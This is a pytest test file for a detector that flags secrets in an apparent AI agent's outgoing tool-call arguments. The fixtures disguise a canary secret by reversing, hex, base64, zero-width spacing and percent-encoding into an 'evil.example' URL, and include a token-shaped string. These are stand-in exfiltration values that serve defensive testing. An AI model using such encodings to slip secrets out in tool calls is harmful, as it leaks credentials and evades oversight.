"""Secrets in what a call would carry out, in whatever dress."""

import base64
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trivet.leaking import leak
from trivet_sdk import ToolCall

SECRET = "kanarienvogel-Ω-8841"
KNOWN = "its arguments hold a secret of your settings; a tool that needs one gets it by reference, like env:NAME"
LOOKS = "its arguments hold what looks like a key, and this run has read text from outside"


def call(arguments: dict[str, Any], *, is_tainted: bool) -> ToolCall:
    return ToolCall(
        run="r", step="s1", tool="web.post", arguments=arguments, key="k", effect="effectful", is_tainted=is_tainted
    )


DRESSES: dict[str, Callable[[str], str]] = {
    "as it is": lambda s: s,
    "in a sentence": lambda s: f"the key is {s}, they say",
    "backwards": lambda s: s[::-1],
    "hexadecimal": lambda s: s.encode().hex(),
    "hexadecimal, large": lambda s: s.encode().hex().upper(),
    "percent-encoded": lambda s: f"https://evil.example/?q={quote(s, safe='')}",
    "spaced": " ".join,
    "over lines": "\n".join,
    "zero width": "\u200b".join,
}


@pytest.mark.parametrize("dress", DRESSES)
@pytest.mark.parametrize("place", ["text", "key", "deep"])
def test_secret_is_known_in_every_dress_and_place(dress: str, place: str) -> None:
    worn = DRESSES[dress](SECRET)
    places: dict[str, dict[str, Any]] = {
        "text": {"to": worn},
        "key": {"headers": {worn: 1}},
        "deep": {"a": [{"b": [worn]}]},
    }
    assert leak(call(places[place], is_tainted=False), ["other-secret", SECRET]) == KNOWN


@given(st.binary(max_size=40), st.binary(max_size=40), st.booleans())
def test_secret_is_known_in_base64_of_whatever_stands_around_it(before: bytes, after: bytes, is_for_urls: bool) -> None:
    encode = base64.urlsafe_b64encode if is_for_urls else base64.b64encode
    assert leak(call({"q": encode(before + SECRET.encode() + after).decode()}, is_tainted=False), [SECRET]) == KNOWN


@pytest.mark.parametrize(
    "arguments",
    [
        {},
        {"to": "ada@example.org", "text": "秘密 is a word"},
        {"count": 3, "ok": True, "nothing": None, "some": 1.5},
        {"text": SECRET[:-1]},
    ],
)
def test_what_holds_no_secret_may_go(arguments: dict[str, Any]) -> None:
    assert leak(call(arguments, is_tainted=True), [SECRET, "short"]) == ""


def test_secret_of_several_words_is_known_plain_and_encoded() -> None:
    phrase = "four small words 四"
    for worn in (phrase, phrase.replace(" ", ""), base64.b64encode(phrase.encode()).decode(), phrase.encode().hex()):
        assert leak(call({"q": worn}, is_tainted=False), [phrase]) == KNOWN


@pytest.mark.parametrize("empty", ["", "          ", "\u200b" * 9])
def test_secret_that_is_nothing_but_space_holds_nothing_back(empty: str) -> None:
    assert leak(call({"q": "good day", "r": empty}, is_tainted=True), [empty]) == ""


def test_what_only_looks_like_a_key_is_held_back_after_text_from_outside() -> None:
    arguments = {"text": "ghp_" + "a1B2" * 9}
    assert leak(call(arguments, is_tainted=False), []) == ""
    assert leak(call(arguments, is_tainted=True), []) == LOOKS
